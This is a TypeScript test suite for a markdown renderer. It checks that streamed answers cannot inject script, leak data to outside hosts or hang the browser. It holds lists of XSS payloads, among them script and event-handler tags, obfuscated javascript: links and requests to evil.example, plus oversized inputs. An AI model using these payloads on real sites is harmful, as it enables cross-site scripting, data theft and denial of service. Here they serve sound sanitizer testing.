import { assert, aTimeout, fixture, html } from "@open-wc/testing";
import { markdownOptions } from "../../test/markdown/options.ts";
import { extrasLoader } from "./load-extras.ts";
import { MarkdownView } from "./markdown-view.ts";
import type { MarkdownOptions } from "./markdown-view.ts";

before(() => extrasLoader.load());

/** What an attack would call. */
const attacked: string[] = [];
Object.assign(window, { attack: (how: string) => attacked.push(how) });

async function show(
  text: string,
  options: Partial<MarkdownOptions> = {},
): Promise<HTMLElement> {
  const host = await fixture<HTMLElement>(html`<div></div>`);
  const view = new MarkdownView(host, { ...markdownOptions, ...options });
  const step = Math.ceil(text.length / 7);
  for (let end = step; end < text.length; end += step)
    view.update(text.slice(0, end), false);
  view.update(text, true);
  return host;
}

const allowedTags =
  /^(?:a|blockquote|br|button|code|del|div|em|h[3-6]|hr|img|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;

function expectHarmless(host: HTMLElement): void {
  for (const element of host.querySelectorAll("*")) {
    assert.match(element.localName, allowedTags);
    for (const { name, value } of element.attributes) {
      assert.notMatch(name, /^on|^style$|^srcdoc$|^formaction$|^xlink/);
      if (name === "href")
        assert.include(
          // An address that is none, whose protocol is empty, leads nowhere.
          ["https:", "http:", "mailto:", "tel:", ":"],
          (element as HTMLAnchorElement).protocol,
        );
      if (name === "src") assert.match(value, /^https:\/\/cdn\.example\//);
    }
    if (element.localName === "a" && element.hasAttribute("href")) {
      assert.equal(element.getAttribute("rel"), "noopener noreferrer");
      assert.equal(element.getAttribute("target"), "_blank");
    }
  }
}

const rawHtml = [
  "<script>attack('script')</script>",
  "<img src=x onerror=\"attack('onerror')\">",
  "<svg onload=\"attack('svg')\"><script>attack('svg')</script></svg>",
  "<svg><a xlink:href=\"javascript:attack('xlink')\">x</a></svg>",
  "<iframe srcdoc=\"<script>parent.attack('srcdoc')</script>\"></iframe>",
  "<details open ontoggle=\"attack('toggle')\">",
  "<math><mtext></mtext><mglyph><style><img src onerror=attack('math')></style></mglyph></math>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<base href=https://evil.example>",
  "<form action=https://evil.example><button>x</button></form>",
  "<noscript><p title=\"</noscript><img src=x onerror=attack('noscript')>\">",
  "<a href=\"javascript:attack('a')\">x</a>",
  "<body onload=attack('body')>",
  "<br onclick=attack('br')>",
  "<!--><img src=x onerror=attack('comment')>-->",
  "<![CDATA[<img src=x onerror=attack('cdata')>]]>",
];

const schemes = [
  "javascript:attack('x')",
  "JaVaScRiPt:attack('x')",
  "\u0001javascript:attack('x')",
  "java\tscript:attack('x')",
  "java\u00adscript:attack('x')",
  "java\u200bscript:attack('x')",
  "javascript&colon;attack('x')",
  "&#106;avascript:attack('x')",
  "&#x6A;&#x61;vascript&#58;attack('x')",
  "java&Tab;script:attack('x')",
  "java&NewLine;script:attack('x')",
  "java&#10;script:attack('x')",
  "javascript\\:attack('x')",
  "javascript%3aattack('x')",
  "%6Aavascript:attack('x')",
  "vbscript:attack('x')",
  "data:text/html,<script>attack('x')</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=attack('x')>",
  "blob:https://page.example/x",
  "file:///etc/passwd",
  "filesystem:https://page.example/x",
  "view-source:https://a.example",
  "intent://x#Intent;scheme=http;end",
  "feed:javascript:attack('x')",
  "x-javascript:attack('x')",
  "//evil.example\u0000javascript:attack('x')",
  "\u202ejavascript:attack('x')",
];

describe("hostile answers", () => {
  afterEach(() => assert.deepEqual(attacked, []));

  it("show raw HTML as the text it is", async () => {
    for (const attack of rawHtml)
      for (const text of [
        attack,
        `a ${attack} b`,
        `- ${attack}`,
        `|a|\n|-|\n|${attack}|`,
      ]) {
        const host = await show(text);
        expectHarmless(host);
        if (!attack.includes("|") && text === attack)
          assert.equal(host.textContent.trim(), attack);
      }
    await aTimeout(50);
  });

  it("lead nowhere but to allowed schemes, however they are written", async () => {
    for (const scheme of schemes) {
      const texts = [
        `[x](${scheme})`,
        `[x](<${scheme}>)`,
        `<${scheme}>`,
        `[x][y]\n\n[y]: <${scheme}>`,
        `![x](<${scheme}>)`,
        `[![x](<${scheme}>)](<${scheme}>)`,
        scheme,
      ];
      for (const text of texts) {
        const host = await show(text, {
          imageOrigins: ["https://cdn.example"],
        });
        expectHarmless(host);
      }
    }
  });

  it("lead to allowed schemes", async () => {
    for (const address of [
      "https://a.example/b?c=d&e#f",
      "http://a.example",
      "mailto:a@b.example",
      "tel:+49123",
      "/path",
      "path/x:y",
      "?a=b:c",
      "#part",
    ]) {
      const host = await show(`[x](${address})`);
      assert.equal(host.querySelector("a")!.getAttribute("href"), address);
    }
  });

  it("load pictures from listed origins only", async () => {
    const options = { imageOrigins: ["https://cdn.example"] };
    const refused = [
      "https://evil.example/?secret",
      "http://cdn.example/a.png",
      "https://cdn.example.evil.example/a.png",
      "https://cdn.example@evil.example/a.png",
      "https://cdn.example:8443/a.png",
      "//evil.example/a.png",
      "\\\\evil.example/a.png",
      "https:evil.example/a.png",
      "/a.png",
      "data:image/png;base64,AAAA",
    ];
    for (const address of refused) {
      const host = await show(`![alt](${address})`, options);
      assert.equal(host.querySelector("img"), null, address);
      assert.equal(host.textContent.trim(), "alt");
    }
    const host = await show('![alt](https://cdn.example/a.png "t")', options);
    const image = host.querySelector("img")!;
    assert.equal(image.src, "https://cdn.example/a.png");
    assert.equal(image.alt, "alt");
    assert.equal(image.referrerPolicy, "no-referrer");
    const none = await show("![alt](https://cdn.example/a.png)");
    assert.equal(none.querySelector("img"), null);
    assert.equal(none.querySelector("a")!.href, "https://cdn.example/a.png");
  });

  it("ask for a picture only when its address is complete", async () => {
    const host = await fixture<HTMLElement>(html`<div></div>`);
    const view = new MarkdownView(host, {
      ...markdownOptions,
      imageOrigins: ["https://cdn.example"],
    });
    const text = "![alt](https://cdn.example/a.png)";
    for (let end = 1; end < text.length; end++) {
      view.update(text.slice(0, end), false);
      assert.equal(host.querySelector("img"), null);
    }
    view.update(text, false);
    assert.notEqual(host.querySelector("img"), null);
  });

  it("cannot turn the direction of what is read", async () => {
    const controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069";
    const host = await show(
      `a${controls}b \`a${controls}b\` [a${controls}b](https://a.example "${controls}")\n\n\`\`\`a${controls}b\na${controls}b\n\`\`\`\n`,
    );
    assert.notMatch(host.textContent, /[\u202a-\u202e\u2066-\u2069]/);
    assert.equal(
      host.querySelector("p > code")!.textContent,
      `a${"\ufffd".repeat(9)}b`,
    );
    assert.equal(
      host.querySelector("pre code")!.textContent,
      `a${"\ufffd".repeat(9)}b\n`,
    );
    for (const block of host.querySelectorAll("p, li, td, blockquote"))
      assert.equal(block.getAttribute("dir"), "auto");
  });
});

const MEGABYTE = 1_000_000;
const repeat = (unit: string, length = MEGABYTE): string =>
  unit.repeat(Math.ceil(length / unit.length));

const excessive: Readonly<Record<string, string>> = {
  "a line of letters": repeat("a"),
  "a line of words": repeat("word "),
  "open emphasis": repeat("*a **b "),
  "open brackets": repeat("["),
  "links that never close": repeat("[a](b"),
  "pictures inside pictures": repeat("!["),
  "runs of backticks of all lengths": Array.from({ length: 1_400 }, (_, n) =>
    "`".repeat(n),
  ).join(" "),
  "comments that never end": repeat("a <!-- "),
  "addresses that are none": repeat("http://a_b_"),
  "mail addresses that are none": repeat("a@"),
  "spaces in a heading": `# a${repeat(" ")}b`,
  "deep quotes": repeat(">"),
  "deep lists": repeat("- "),
  "deep emphasis": `${"*".repeat(300_000)}a${"*".repeat(300_000)}`,
  "a table of 10,000 columns": `${repeat("|a", 20_000)}|\n${repeat("|-", 20_000)}|\n${repeat("|b", 20_000)}|\n`,
  "short rows of a wide table": `${repeat("|a", 500)}|\n${repeat("|-", 500)}|\n${repeat("|\n", 100_000)}`,
  // Under dir="auto" an insertion costs a browser the more the more siblings there are: a tenth of a megabyte is enough.
  "definitions and their use": `${repeat("[a] ", 50_000)}\n\n${repeat("[a]: b\n\n", 50_000)}`,
};

describe("excessive answers", function () {
  this.timeout(60_000);

  for (const [name, text] of Object.entries(excessive))
    it(`${name}: come to an end`, async () => {
      const host = document.createElement("div");
      const view = new MarkdownView(host, markdownOptions);
      for (let step = 1; step < 10; step++)
        view.update(text.slice(0, (text.length * step) / 10), false);
      view.update(text, true);
      let depth = 0;
      for (const element of host.querySelectorAll(":empty")) {
        let at = 0;
        for (let node: Node | null = element; node; node = node.parentNode)
          at++;
        depth = Math.max(depth, at);
      }
      assert.isBelow(depth, 250);
      assert.isBelow(host.querySelectorAll("*").length, text.length);
      await aTimeout(0);
    });
});
